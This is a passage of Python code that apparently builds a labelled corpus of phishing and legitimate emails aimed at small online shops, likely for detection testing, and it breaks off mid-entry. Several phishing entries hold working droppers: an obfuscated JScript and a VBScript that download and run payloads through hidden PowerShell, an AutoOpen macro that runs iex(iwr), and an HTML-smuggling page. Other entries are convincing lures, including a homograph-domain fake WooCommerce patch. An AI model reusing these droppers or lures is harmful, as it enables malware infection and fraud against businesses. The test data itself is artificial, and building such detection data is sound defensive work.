    a = Auth("5.181.156.23", f"mail.{dom}", f"einkauf@{dom}", dom, dkim=[(dom, "mail", "pass")], dmarc="pass", p="none")
    js = ("var _0x3a1f=['\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2e\\x53\\x68\\x65\\x6c\\x6c','\\x52\\x75\\x6e',"
          "'\\x70\\x6f\\x77\\x65\\x72\\x73\\x68\\x65\\x6c\\x6c'];\r\n"
          "// Bestellliste Q2 2024 - Nordic Interiors Trade\r\n"
          "var s=new ActiveXObject(_0x3a1f[0]);var u='https://nordic-interiors-trade.com/files/bl.php?id=" + tok(seed + "id", 10, ALNUM) + "';\r\n"
          "s[_0x3a1f[1]](_0x3a1f[2]+\" -w hidden -c \\\"iwr '\"+u+\"' -OutFile $env:TEMP\\\\bl.exe; saps $env:TEMP\\\\bl.exe\\\"\",0,false);\r\n"
          + "".join(f"var _p{k}='{tok(seed + str(k), 60, ALNUM)}';\r\n" for k in range(8))).encode()
    archive = files.zip_archive([("Bestellliste_Q2_2024.js", js)])
    subject = "Anfrage Großbestellung - Bestellliste Q2 anbei"
    plain = """Sehr geehrte Damen und Herren,

wir sind ein skandinavisch-deutscher Einrichtungshändler und interessieren uns für eine größere
Bestellung Ihrer Schneidebretter und Servierbretter aus Eiche und Nussbaum für unsere Filialen.

Die gewünschten Artikel und Mengen finden Sie in der beigefügten Bestellliste. Bitte senden Sie uns ein
Angebot inkl. Lieferzeit und Staffelpreisen bis Ende der Woche.

Das Archiv ist aus Sicherheitsgründen komprimiert.

Mit freundlichen Grüßen

Jonas Eklund
Einkauf
Nordic Interiors Trade AB
"""
    body = mixed(bnd_php(seed + "m"), text(plain, "plain", "quoted-printable"),
                 attachment("application/zip", "Bestellliste_Q2_2024.zip", archive))
    own = [
        dkim(dom, "mail", seed, sent, "Content-Type:MIME-Version:Message-ID:Date:Subject:From:To"),
        f"Received: from [127.0.0.1] (localhost [127.0.0.1])\n\tby mail.{dom} (Postfix) with ESMTPSA id "
        f"{tok(seed + 'q', 10, UHEX)}\n\tfor <info@holzwerk-lindner.de>; {dt(ago(sent, 1), 'cet')}",
        f"Date: {dt(sent, 'cet')}",
        f"From: Jonas Eklund <einkauf@{dom}>",
        "To: info@holzwerk-lindner.de",
        f"Subject: {enc(subject)}",
        f"Message-ID: <{tok(seed + 'mid', 32, ALNUM)}@{dom}>",
        "X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)",
        "MIME-Version: 1.0",
    ]
    return mail("holz", "info@holzwerk-lindner.de", "2024-05-07 09:04:58", a, seed, own, body)


@entry("b37-phish-buyer-dropbox-scr-es", "phish", "malware",
       "Spanish hotel-group 'buyer' on Gmail asks for a quote and links a Dropbox archive of 'reference photos' "
       "(direct-download dl=1) that holds a .scr executable")
def m_dropbox_scr():
    seed = "m3"
    t = utc("2025-06-24 10:48:31")
    sent = ago(t, 4)
    sender = "compras.hotelesbrisamar@gmail.com"
    a = Auth("209.85.221.52", "mail-wr1-f52.google.com", sender, "gmail.com", dkim=[("gmail.com", "20230601", "pass")],
             p="none", sp="quarantine")
    url = (f"https://www.dropbox.com/scl/fi/{tok(seed + 'f', 21, LOW + DIG)}/Fotos_referencia_pedido_hoteles.zip?"
           f"rlkey={tok(seed + 'r', 25, LOW + DIG)}&st={tok(seed + 's', 8, LOW + DIG)}&dl=1")
    subject = "Solicitud de presupuesto - vajilla y aceiteras para 3 hoteles"
    plain = f"""Buenos días,

Le escribo del departamento de compras del grupo Hoteles Brisamar. Estamos renovando la vajilla y los
accesorios de mesa de nuestros tres hoteles en Málaga y Marbella y nos han recomendado sus productos.

Necesitaríamos aproximadamente 240 aceiteras de cerámica y 180 fuentes de servir. Le dejo aquí las fotos
de referencia de los modelos que nos interesan (el archivo pesa bastante, por eso va por Dropbox):

{url}

¿Podría enviarnos precio por unidad y plazo de entrega? Pagamos por transferencia a 30 días.

Un saludo,

Marta Ibáñez
Departamento de Compras
Hoteles Brisamar
"""
    html = ("<div dir=\"ltr\">" + "".join(f"<div>{l or '<br>'}</div>" for l in plain.replace(url, f'<a href="{url}">{url}</a>').splitlines())
            + "</div>\n")
    own = gmail_own(seed, sent, "cet", "Marta Ibanez - Hoteles Brisamar <compras.hotelesbrisamar@gmail.com>",
                    "hola@casaolivo.es", subject, "casaolivo.es")
    return mail("olivo", "hola@casaolivo.es", "2025-06-24 10:48:31", a, seed, own, alt(plain, html, bnd_gmail(seed)))


@entry("b37-phish-influencer-collab-mediafire-rar", "phish", "malware",
       "Fake skincare-brand collaboration offer from a brand-lookalike domain: campaign brief and contract in a "
       "password-protected RAR on MediaFire (password in the mail) - the usual infostealer delivery to marketers")
def m_collab_rar():
    seed = "m4"
    t = utc("2024-09-24 16:55:12")
    sent = ago(t, 3)
    dom = "lumiereskin-partners.com"
    a = Auth("136.143.188.95", "sender4-op-o95.zoho.com", f"collab@{dom}", dom, dkim=[(dom, "zmail", "pass")], dmarc=None)
    url = f"https://www.mediafire.com/file/{tok(seed + 'f', 15, LOW + DIG)}/Lumiere_Skin_Campaign_Brief_Q4.rar/file"
    subject = "Paid collaboration: Lumière Skin x Northbound Social (Q4 campaign)"
    plain = f"""Hi Northbound Social team,

My name is Chloé Martin and I manage influencer and agency partnerships at Lumière Skin. We've been
following the work you do for your clients on Instagram and TikTok and we'd love to partner with you for
our Q4 serum launch.

Budget: $12,000 - $18,000 depending on deliverables (Reels, Stories, paid amplification through your
ad accounts).

You can find the campaign brief, product details, payment terms and the contract here:
{url}
Archive password: LS2024

Please review the documents and let us know which package works best for you. We would like to confirm
partners by Friday.

Best regards,
Chloé Martin
Partnerships Manager | Lumière Skin
"""
    html = ("<div style=\"font-family: Verdana, Arial, Helvetica, sans-serif; font-size: 10pt;\">"
            + "<br>".join(l.replace("&", "&amp;").replace(url, f'<a href="{url}" target="_blank">{url}</a>') for l in plain.splitlines())
            + "</div>\n")
    own = [
        dkim(dom, "zmail", seed, sent, "Date:Date:From:From:To:To:Message-Id:Message-Id:Subject:Subject:MIME-Version:"
             "Content-Type:Reply-To", q=True),
        f"Received: from mail.zoho.com by mx.zohomail.com\n\twith SMTP id {epoch(sent)}{num(seed + 'z', 9)}.{num(seed + 'z2', 9)}"
        f"\n\tfor <jess@northboundsocial.com>; {dt(ago(sent, 1), 'pacific')}",
        f"Date: {dt(sent, 'cet')}",
        f"From: {enc('Chloé Martin')} <collab@{dom}>",
        "To: \"jess\" <jess@northboundsocial.com>",
        f"Message-Id: <{tok(seed + 'm1', 11, HEX)}.{tok(seed + 'm2', 14, HEX)}.{num(seed + 'm3', 19)}@{dom}>",
        f"Subject: {enc(subject)}",
        "MIME-Version: 1.0",
        "Importance: Medium",
        "User-Agent: Zoho Mail",
        "X-Mailer: Zoho Mail",
    ]
    return mail("north", "jess@northboundsocial.com", "2024-09-24 16:55:12", a, seed, own,
                alt(plain, html, f"----=_Part_{num(seed + 'p', 6)}_{num(seed + 'p2', 9)}.{epoch(sent)}{num(seed + 'p3', 3)}"))


@entry("b37-phish-influencer-collab-iso", "phish", "malware",
       "Gmail 'brand manager' offers the maker a paid home-decor collaboration and attaches a disk image "
       "'Ferncrest_Collaboration_Proposal.iso' holding an executable disguised as the proposal PDF")
def m_collab_iso():
    seed = "m5"
    t = utc("2024-04-29 13:27:45")
    sent = ago(t, 3)
    sender = "ferncrest.home.partnerships@gmail.com"
    a = Auth("209.85.220.41", "mail-sor-f41.google.com", sender, "gmail.com", dkim=[("gmail.com", "20230601", "pass")],
             p="none", sp="quarantine")
    iso = files.iso_image([("Collaboration_Proposal_2024.pdf.exe", files.pe_stub()),
                           ("readme.txt", b"Open Collaboration_Proposal_2024 to view the proposal and rates.\r\n")],
                          "FERNCREST")
    subject = "Collaboration proposal - Ferncrest Home x Maple & Moss"
    plain = """Hi there!

I'm Olivia from Ferncrest Home. We're a US home decor brand and we're putting together our spring
creator collection. We love your moss and botanical candles and would like to offer you a paid
collaboration (product feature + 2 posts, $1,500 + commission on sales).

I've attached our proposal with the rates, timeline and product list. Please open it on your computer,
it doesn't display on phones.

Let me know what you think!

Olivia Hart
Brand Partnerships, Ferncrest Home
"""
    html = ("<div dir=\"ltr\">" + "".join(f"<div>{l or '<br>'}</div>" for l in plain.replace("&", "&amp;").splitlines()) + "</div>\n")
    body = mixed(bnd_gmail(seed + "m"), alt(plain, html, bnd_gmail(seed)),
                 Leaf("application/x-iso9660-image", iso, "base64", '; name="Ferncrest_Collaboration_Proposal.iso"',
                      'attachment; filename="Ferncrest_Collaboration_Proposal.iso"',
                      [f"X-Attachment-Id: f_{tok(seed + 'att', 9, LOW)}", f"Content-ID: <f_{tok(seed + 'att', 9, LOW)}>"]))
    own = gmail_own(seed, sent, "central", "Olivia Hart <ferncrest.home.partnerships@gmail.com>",
                    "mapleandmoss.studio@gmail.com", subject, "gmail.com")
    return mail("maple", "mapleandmoss.studio@gmail.com", "2024-04-29 13:27:45", a, seed, own, body)


@entry("b37-phish-copyright-firebase-zip-es", "phish", "malware",
       "Spanish copyright-infringement notice from a Gmail 'law firm' about product photos, with the 'evidence' as a "
       "ZIP on Firebase Storage (executable inside) - the Lumma/Rhadamanthys copyright lure")
def m_copyright_firebase():
    seed = "m6"
    t = utc("2024-10-15 17:09:38")
    sent = ago(t, 4)
    sender = "bufete.ip.legal.notificaciones@gmail.com"
    a = Auth("209.85.167.45", "mail-lf1-f45.google.com", sender, "gmail.com", dkim=[("gmail.com", "20230601", "pass")],
             p="none", sp="quarantine")
    url = (f"https://firebasestorage.googleapis.com/v0/b/legal-docs-{num(seed + 'b', 4)}.appspot.com/o/"
           f"Evidencia_Infraccion_Derechos_Autor.zip?alt=media&token={tok(seed + 't1', 8, HEX)}-{tok(seed + 't2', 4, HEX)}-"
           f"{tok(seed + 't3', 4, HEX)}-{tok(seed + 't4', 4, HEX)}-{tok(seed + 't5', 12, HEX)}")
    subject = "Notificación de infracción de derechos de autor - Tienda Quetzal"
    plain = f"""Estimados señores de Tienda Quetzal:

Nos dirigimos a ustedes en representación de nuestro cliente, el fotógrafo Andrés Villaseñor, titular de
los derechos de autor de varias imágenes que están siendo utilizadas sin autorización en su tienda en
línea y en sus publicaciones de Mercado Libre e Instagram.

En el siguiente enlace encontrarán el expediente con las imágenes originales, las capturas de pantalla
de su tienda y la lista de publicaciones afectadas:

{url}

Les solicitamos retirar el material en un plazo de 48 horas. De lo contrario, procederemos a presentar
las denuncias correspondientes ante Mercado Libre y Meta y a iniciar acciones legales.

Atentamente,

Lic. Rodrigo Salcedo
Salcedo & Asociados - Propiedad Intelectual
"""
    html = ("<div dir=\"ltr\">" + "".join(f"<div>{l.replace('&', '&amp;') or '<br>'}</div>" for l in plain.splitlines()).replace(
        url, f'<a href="{url}">{url}</a>') + "</div>\n")
    own = gmail_own(seed, sent, "mexico", "Salcedo & Asociados <bufete.ip.legal.notificaciones@gmail.com>",
                    "ventas@tiendaquetzal.mx", subject, "tiendaquetzal.mx")
    own = [x.replace('From: Salcedo & Asociados', 'From: "Salcedo & Asociados"') for x in own]
    return mail("quetzal", "ventas@tiendaquetzal.mx", "2024-10-15 17:09:38", a, seed, own, alt(plain, html, bnd_gmail(seed)))


@entry("b37-phish-copyright-html-smuggling", "phish", "malware",
       "Copyright complaint about product photos with an attached HTML 'evidence viewer' that rebuilds a ZIP "
       "(JScript inside) from base64 in the browser and auto-downloads it (HTML smuggling)")
def m_copyright_smuggling():
    seed = "m7"
    t = utc("2025-01-30 12:40:07")
    sent = ago(t, 3)
    sender = "notices.harlowpryce@outlook.com"
    a = Auth("52.103.33.68", "mail-am0eur02olkn2068.outbound.protection.outlook.com", sender, "outlook.com",
             helo="EUR02-AM0-obe.outbound.protection.outlook.com", dkim=[("outlook.com", "selector1", "pass")], p="none")
    inner_js = ("var sh=new ActiveXObject('WScript.Shell');sh.Run('cmd /c curl -s -o %TEMP%\\\\ev.exe "
                "https://harlowpryce-evidence.com/v/ev.bin && %TEMP%\\\\ev.exe',0,false);\r\n").encode()
    payload = files.zip_archive([("Infringement_Evidence_IMG2291.js", inner_js)])
    import base64 as _b64
    b64 = _b64.b64encode(payload).decode()
    chunks = "\n".join(f"'{b64[k:k + 76]}'+" for k in range(0, len(b64), 76)) + "''"
    page = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Harlow &amp; Pryce - Secure Document Viewer</title></head>
<body style="font-family:Segoe UI,Arial,sans-serif;background:#f3f3f3;text-align:center;padding-top:80px;">
<h2>Harlow &amp; Pryce LLP</h2>
<p>Your document "Infringement_Evidence_IMG2291.zip" is being prepared...</p>
<p>If the download does not start automatically, <a id="m" href="#">click here</a>.</p>
<script>
var d={chunks};
function b(s){{var r=atob(s),n=r.length,a=new Uint8Array(n);for(var i=0;i<n;i++)a[i]=r.charCodeAt(i);return a;}}
var f=new Blob([b(d)],{{type:'application/zip'}});var u=URL.createObjectURL(f);
var l=document.getElementById('m');l.href=u;l.download='Infringement_Evidence_IMG2291.zip';l.click();
</script></body></html>
"""
    subject = "Notice of Copyright Infringement - Unauthorised use of photograph IMG-2291"
    plain = """Dear Sir/Madam,

We act on behalf of our client, a professional product photographer, in relation to the unauthorised
use of copyrighted photographs on your website kestrelandco.co.uk and your Etsy and Instagram pages.

Details of the infringing use, including the original image files, the URLs concerned and
screenshots, are provided in the attached evidence file. Please open it on a desktop computer.

We request that you remove the images and contact us within 5 working days to discuss a licence fee.
Failing this, we are instructed to issue takedown notices to Etsy and Meta and to commence proceedings
without further notice.

Yours faithfully,

Edward Harlow
Harlow & Pryce LLP
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body dir="ltr">
<div style="font-family:Calibri,Arial,Helvetica,sans-serif;font-size:12pt;color:rgb(0,0,0);">
{"".join(f"<div>{l.replace('&', '&amp;') or '<br>'}</div>" for l in plain.splitlines())}
</div></body></html>
"""
    body = mixed(bnd_outlook(seed + "m", "eur"), alt(plain, html, bnd_outlook(seed, "eur")),
                 attachment("text/html", "Infringement_Evidence_IMG2291.html", page.encode()))
    own = outlook_own(seed, sent, "utc", "Harlow & Pryce LLP <notices.harlowpryce@outlook.com>", "sam@kestrelandco.co.uk",
                      subject, "outlook.com", site="eur", attach=True, lang="en-GB")
    own = [x.replace("From: Harlow & Pryce LLP", 'From: "Harlow & Pryce LLP"') for x in own]
    return mail("kestrel", "sam@kestrelandco.co.uk", "2025-01-30 12:40:07", a, seed, own, body)


@entry("b37-phish-amazon-brand-registry-docm", "phish", "malware",
       "'Amazon Brand Protection' trademark complaint from a lookalike domain with 'Brand_Registry_Complaint_Details"
       ".docm' whose AutoOpen macro runs a hidden PowerShell download")
def m_amazon_docm():
    seed = "m8"
    t = utc("2024-07-18 15:02:11")
    sent = ago(t, 2)
    dom = "amazon-brandprotection-legal.com"
    a = Auth("176.113.115.72", f"mail.{dom}", f"notice@{dom}", dom, dkim=[(dom, "default", "pass")], dmarc=None)
    macro = ('Attribute VB_Name = "NewMacros"\r\nSub AutoOpen()\r\n    Dim s As String\r\n'
             '    s = "powershell -w hidden -nop -c ""iex(iwr -UseBasicParsing https://' + dom + '/cdn/rpt.ps1)"""\r\n'
             '    CreateObject("WScript.Shell").Run s, 0, False\r\nEnd Sub\r\n')
    doc = files.docx(["Amazon Brand Registry - Notice of Intellectual Property Complaint",
                      "Complaint ID: 15294477301",
                      "This document is protected. Click 'Enable Content' above to view the complaint details, "
                      "the ASINs concerned and the rights owner's evidence.",
                      "Content hidden for your privacy."], "Brand Registry Complaint", "Amazon Legal", macro=macro)
    subject = "Notice: Intellectual Property complaint 15294477301 - response required"
    plain = """Hello,

We received a report from a rights owner that your listings may infringe their registered trademark.

Complaint ID: 15294477301
Affected ASINs: 3
Rights owner: Hearth & Wick Brands LLC

The complaint details and the evidence provided by the rights owner are attached. If you do not
respond within 72 hours, the listings will be removed and your account health rating will be affected.

Amazon Brand Protection
Amazon.com Services LLC
"""
    body = mixed(bnd_hex(seed, 28), text(plain, "plain", "7bit", "us-ascii"),
                 attachment("application/vnd.ms-word.document.macroEnabled.12", "Brand_Registry_Complaint_Details.docm", doc))
    own = [
        dkim(dom, "default", seed, sent, "Content-Type:MIME-Version:Subject:To:From:Date:Message-ID"),
        f"Date: {dt(sent)}",
        f"Message-ID: <{tok(seed + 'mid', 24, HEX)}@{dom}>",
        f"From: Amazon Brand Protection <notice@{dom}>",
        "To: maya@lunaandfern.com",
        f"Subject: {subject}",
        "MIME-Version: 1.0",
    ]
    return mail("luna", "maya@lunaandfern.com", "2024-07-18 15:02:11", a, seed, own, body)


@entry("b37-phish-woocommerce-fake-security-patch", "phish", "malware",
       "'WooCommerce' urgent security-patch mail from security-woocommerce.com: download a 'patch' plugin ZIP from an "
       "IDN homograph of woocommerce.com and install it in WordPress (backdoor plugin campaign)")
def m_woocommerce_patch():
    seed = "m9"
    t = utc("2025-04-14 06:33:50")
    sent = ago(t, 3)
    dom = "security-woocommerce.com"
    homo = "woocommėrce.com".encode("idna").decode()
    url = f"https://{homo}/products/woocommerce-patch-2025-04/?download=woocommerce-security-patch.zip&key={tok(seed + 'k', 16, ALNUM)}"
    a = Auth("185.141.63.91", f"mail.{dom}", f"help@{dom}", dom, dkim=[(dom, "mail", "pass")], dmarc="pass", p="none")
    subject = "Urgent Security Update Required - Immediate Action Needed"
    plain = f"""WooCommerce

Hi info,

We have identified a critical security vulnerability affecting WooCommerce stores running versions 8.x
and 9.x. This vulnerability allows unauthenticated access to your store's administration panel and
customer data.

Our security team has released a patch. Because this issue affects your store
(holzwerk-lindner.de), we strongly recommend installing the patch immediately:

1. Download the patch: {url}
2. Log in to your WordPress admin and go to Plugins > Add New > Upload Plugin.
3. Upload the downloaded file and click "Activate".

If you have any questions, please contact our support team.

Best regards,
WooCommerce Security Team
"""
    html = f"""<html><body style="margin:0;background:#f6f7f7;font-family:-apple-system,BlinkMacSystemFont,'Segoe UI',Roboto,Arial,sans-serif;">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#ffffff;margin-top:20px;">
<tr><td style="background:#873eff;padding:20px 32px;color:#ffffff;font-size:22px;font-weight:bold;">Woo</td></tr>
<tr><td style="padding:28px 32px;font-size:15px;line-height:23px;color:#1e1e1e;">
<p>Hi info,</p>
<p>We have identified a <b>critical security vulnerability</b> affecting WooCommerce stores running versions 8.x and 9.x. This vulnerability allows unauthenticated access to your store's administration panel and customer data.</p>
<p>Our security team has released a patch. Because this issue affects your store (<b>holzwerk-lindner.de</b>), we strongly recommend installing the patch immediately:</p>
<ol><li>Download the patch below.</li><li>Log in to your WordPress admin and go to <b>Plugins &gt; Add New &gt; Upload Plugin</b>.</li><li>Upload the downloaded file and click &quot;Activate&quot;.</li></ol>
<p><a href="{url}" style="background:#873eff;color:#ffffff;padding:12px 26px;border-radius:4px;text-decoration:none;font-weight:600;">Download Patch</a></p>
<p style="font-size:13px;color:#757575;">https://woocommėrce.com/products/woocommerce-patch-2025-04/</p>
<p>Best regards,<br>WooCommerce Security Team</p></td></tr></table></body></html>
"""
    own = [
        dkim(dom, "mail", seed, sent, "Content-Type:MIME-Version:Message-ID:Date:Subject:From:To"),
        f"Date: {dt(sent)}",
        f"From: WooCommerce <help@{dom}>",
        "To: info@holzwerk-lindner.de",
        f"Subject: {subject}",
        f"Message-ID: <{tok(seed + 'mid', 40, ALNUM)}@{dom}>",
        "MIME-Version: 1.0",
        "X-Mailer: PHPMailer 6.9.3 (https://github.com/PHPMailer/PHPMailer)",
    ]
    return mail("holz", "info@holzwerk-lindner.de", "2025-04-14 06:33:50", a, seed, own, alt(plain, html, bnd_php(seed)))


@entry("b37-phish-cfdi-factura-zip-mx", "phish", "malware",
       "Mexican 'Factura electrónica CFDI 4.0' from a compromised distributor mailbox (passes): link to a ZIP on a "
       "hacked site that carries an MSI installer (Grandoreiro/Mekotio-style banking-trojan lure)")
def m_cfdi():
    seed = "m10"
    t = utc("2024-10-22 20:14:27")
    sent = ago(t, 3)
    dom = "distribuidoraelcentenario.com.mx"
    a = Auth("40.107.244.77", "mail-dm6nam12on2077.outbound.protection.outlook.com", f"facturacion@{dom}", dom,
             helo="NAM12-DM6-obe.outbound.protection.outlook.com", dkim=[(dom, "selector1", "pass")], p="none")
    url = f"https://grupo-vasquez-arquitectos.com/wp-includes/css/dist/facturas/?cfdi=A-88213&rfc=TQU{num(seed + 'rfc', 6)}"
    subject = "Factura Electrónica CFDI 4.0 Folio A-88213"
    plain = f"""Estimado cliente:

Le hacemos llegar su Comprobante Fiscal Digital por Internet (CFDI 4.0) correspondiente a su compra.

Folio: A-88213
Emisor: DISTRIBUIDORA EL CENTENARIO SA DE CV
Receptor: TIENDA QUETZAL
Total: $14,862.40 MXN

Descargue su factura (PDF y XML) en el siguiente enlace:
{url}

Este correo se genera automáticamente, favor de no responder.
"""
    html = f"""<html><body><div style="font-family:Calibri,Arial,sans-serif;font-size:11pt;">
<p>Estimado cliente:</p>
<p>Le hacemos llegar su Comprobante Fiscal Digital por Internet (CFDI 4.0) correspondiente a su compra.</p>
<table style="font-size:11pt;border:1px solid #ccc;" cellpadding="4"><tr><td>Folio:</td><td>A-88213</td></tr><tr><td>Emisor:</td><td>DISTRIBUIDORA EL CENTENARIO SA DE CV</td></tr><tr><td>Receptor:</td><td>TIENDA QUETZAL</td></tr><tr><td>Total:</td><td>$14,862.40 MXN</td></tr></table>
<p><a href="{url}">Descargar Factura (PDF y XML)</a></p>
<p style="color:#888;font-size:9pt;">Este correo se genera automáticamente, favor de no responder.</p></div></body></html>
"""
    own = outlook_own(seed, sent, "utc", f"Facturacion Centenario <facturacion@{dom}>", "ventas@tiendaquetzal.mx",
                      subject, dom, site="nam", lang="es-MX")
    return mail("quetzal", "ventas@tiendaquetzal.mx", "2024-10-22 20:14:27", a, seed, own, alt(plain, html, bnd_outlook(seed, "nam")))


@entry("b37-phish-nota-fiscal-vbs-ptbr", "phish", "malware",
       "Portuguese 'NF-e' (nota fiscal) for a Mercado Livre sale from a throwaway emissor domain with "
       "'NFe_000918273.zip' containing a VBScript downloader (Brazilian banking-trojan lure)")
def m_nota_fiscal():
    seed = "m11"
    t = utc("2025-02-05 13:50:09")
    sent = ago(t, 3)
    dom = "nfe-emissoronline.com"
    a = Auth("191.101.78.39", "unknown", f"notafiscal@{dom}", dom, helo=f"vps{num(seed + 'h', 6)}.{dom}",
             dkim=[(dom, "default", "pass")], dmarc=None, tls="TLS1_2")
    vbs = ("On Error Resume Next\r\nDim o, p\r\nSet o = CreateObject(\"WScript.Shell\")\r\n"
           "p = \"powershell -w hidden -c \"\"$d=$env:APPDATA+'\\\\nfe.msi';iwr 'https://nfe-emissoronline.com/dl/nfe.msi' "
           "-OutFile $d;msiexec /i $d /qn\"\"\"\r\no.Run p, 0, False\r\n'" + tok(seed + "pad", 200, ALNUM) + "\r\n").encode()
    archive = files.zip_archive([("NFe_000918273.vbs", vbs)])
    subject = "NF-e Nº 000.918.273 - Pedido Mercado Livre #2000009876543210"
    plain = """Prezado(a) cliente,

Segue em anexo a Nota Fiscal Eletrônica (NF-e) referente ao pedido do Mercado Livre
#2000009876543210.

Número: 000.918.273  Série: 1
Emitente: DISTRIBUIDORA TEXTIL PAULISTA LTDA
Valor total: R$ 3.487,90

Caso não consiga visualizar o arquivo, extraia o conteúdo do arquivo compactado.

Atenciosamente,
Setor de Faturamento
"""
    body = mixed(bnd_php(seed + "m"), text(plain, "plain", "quoted-printable", "iso-8859-1"),
                 attachment("application/zip", "NFe_000918273.zip", archive))
    own = [
        dkim(dom, "default", seed, sent, "Content-Type:MIME-Version:Message-ID:Subject:From:To:Date"),
        f"Date: {dt(sent, 'brazil')}",
        "To: contato@brisamoda.com.br",
        f"From: NF-e Faturamento <notafiscal@{dom}>",
        f"Subject: {enc(subject)}",
        f"Message-ID: <{tok(seed + 'mid', 32, ALNUM)}@{dom}>",
        "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
        "MIME-Version: 1.0",
    ]
    return mail("brisa", "contato@brisamoda.com.br", "2025-02-05 13:50:09", a, seed, own, body)


# =============================================================================================
# LEGITIMATE
# =============================================================================================

@entry("b37-legit-meta-ad-rejected", "legit", "bulk",
       "Genuine Meta for Business notice (support.facebook.com, passes) that one ad was not approved under the "
       "Advertising Standards, linking only to Ads Manager and Business Support Home on facebook.com")
def l_meta_ad_rejected():
    seed = "l1"
    t = utc("2025-03-06 22:41:09")
    sent = ago(t, 1)
    a = Auth("66.220.155.150", "66-220-155-150.mail-mail.facebook.com", "advertise-noreply@support.facebook.com",
             "support.facebook.com", dkim=[("support.facebook.com", "s2048-2021-q4", "pass")], p="reject")
    act = "1093347761524580"
    mid = tok(seed + "mid", 12, HEX)
    ads = f"https://www.facebook.com/adsmanager/manage/ads?act={act}&selected_ad_ids=120215{num(seed + 'ad', 11)}&nav_source=email"
    review = f"https://business.facebook.com/business-support-home/?source=email_ad_rejected&asset_id={act}"
    subject = "Your ad wasn't approved"
    plain = f"""Your ad wasn't approved

Hi Jess,

Your ad "Spring Refresh - Carousel - Retarget 30d" in the ad account Northbound Social - Client Ads
wasn't approved because it doesn't follow our Advertising Standards on personal attributes.

What you can do
You can edit your ad and submit it again, or if you think we made a mistake, you can request another
review in Business Support Home.

Edit ad: {ads}
Request review: {review}

Thanks,
The Meta Ads Team

This message was sent to jess@northboundsocial.com. To help keep your account secure, please don't
forward this email. Learn more: https://www.facebook.com/help/213481848684090/
Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025
"""
    html = f"""<!DOCTYPE html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><title>Meta for Business</title></head>
<body style="margin:0;padding:0;background:#ffffff;"><table width="100%" cellspacing="0" cellpadding="0" border="0" style="border-collapse:collapse;"><tr><td align="center">
<table width="600" cellspacing="0" cellpadding="0" border="0" style="font-family:Roboto,Helvetica,Arial,sans-serif;color:#1c2b33;">
<tr><td style="padding:28px 24px 8px;"><img src="https://static.xx.fbcdn.net/rsrc.php/v3/yY/r/Jw8Su5bcY6X.png" width="104" height="22" alt="Meta"></td></tr>
<tr><td style="padding:14px 24px 4px;font-size:24px;line-height:30px;font-weight:500;">Your ad wasn't approved</td></tr>
<tr><td style="padding:12px 24px;font-size:15px;line-height:22px;">
<p>Hi Jess,</p>
<p>Your ad <b>&quot;Spring Refresh - Carousel - Retarget 30d&quot;</b> in the ad account <b>Northbound Social - Client Ads</b> wasn't approved because it doesn't follow our Advertising Standards on personal attributes.</p>
<p style="font-weight:500;margin-bottom:2px;">What you can do</p>
<p style="margin-top:0;">You can edit your ad and submit it again, or if you think we made a mistake, you can request another review in Business Support Home.</p>
<table cellspacing="0" cellpadding="0"><tr><td style="background:#0064e0;border-radius:6px;padding:10px 18px;"><a href="{ads}" style="color:#ffffff;text-decoration:none;font-weight:500;">Edit ad</a></td><td width="10"></td><td style="border:1px solid #cbd2d9;border-radius:6px;padding:9px 18px;"><a href="{review}" style="color:#1c2b33;text-decoration:none;font-weight:500;">Request review</a></td></tr></table>
<p>Thanks,<br>The Meta Ads Team</p></td></tr>
<tr><td style="padding:20px 24px;font-size:12px;line-height:16px;color:#67788a;border-top:1px solid #dee3e9;">This message was sent to <a href="mailto:jess@northboundsocial.com" style="color:#0064e0;">jess@northboundsocial.com</a>. To help keep your account secure, please don't forward this email. <a href="https://www.facebook.com/help/213481848684090/" style="color:#0064e0;">Learn more</a><br>Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025</td></tr>
</table></td></tr></table>
<img src="https://www.facebook.com/email_open_log_pic.php?mid={mid}" style="border:0;width:1px;height:1px;" alt=""></body></html>
"""
    own = [
        dkim("support.facebook.com", "s2048-2021-q4", seed, sent, "Date:To:Subject:Message-ID:From:MIME-Version:Content-Type",
             c="simple/relaxed"),
        f"Received: from facebook.com (U6nIc{tok(seed + 'th', 56, ALNUM + '+/')}\n 2a03:2880:23ff:{_hx(seed + 'v6', 2)}::face:b00c)\n"
        f" by facebook.com with Thrift id {tok(seed + 'tid', 32, HEX)}-{tok(seed + 'tid2', 8, HEX)};\n {dt(ago(sent, 1), 'pacific')}",
        f"Date: {dt(sent, 'pacific')}",
        "To: Jess Moreno <jess@northboundsocial.com>",
        f"Subject: {subject}",
        f"Message-ID: <{tok(seed + 'msg', 32, HEX)}@async.facebook.com>",
        "From: \"Meta for Business\" <advertise-noreply@support.facebook.com>",
        "X-Priority: 3",
        "X-Mailer: ZuckMail [version 1.00]",
        f"X-Facebook-Notify: ads_review_rejected; mailid={mid}",
        "X-FACEBOOK-PRIORITY: 0",
        "X-Auto-Response-Suppress: All",
        "Feedback-ID: 0:ads_review_rejected:Facebook",
        "MIME-Version: 1.0",
    ]
    return mail("north", "jess@northboundsocial.com", "2025-03-06 22:41:09", a, seed, own,
                alt(plain, html, f"b1_{tok(seed + 'b', 40, ALNUM)}"))


@entry("b37-legit-meta-business-verified", "legit", "bulk",
       "Genuine facebookmail.com notice that the shop's business portfolio verification was approved; links only to "
       "business.facebook.com settings, no deadline or credential request")
def l_meta_verified():
    seed = "l2"
    t = utc("2024-07-23 17:12:40")
    sent = ago(t, 1)
    a = Auth("69.171.232.145", "69-171-232-145.mail-mxout.facebook.com", "notification@facebookmail.com",
             "facebookmail.com", dkim=[("facebookmail.com", "s2048-2021-q4", "pass")], p="reject")
    bid = num(seed + "bid", 15)
    link = f"https://business.facebook.com/settings/security/?business_id={bid}&ref=email_bv_approved"
    subject = "Luna & Fern Candle Co. is now verified"
    plain = f"""Your business is verified

Hi Maya,

Good news - we've verified Luna & Fern Candle Co. Verification helps people feel confident they're
interacting with a real business, and gives your business portfolio access to additional features.

You can review your business info at any time in Security Center.

View Security Center: {link}
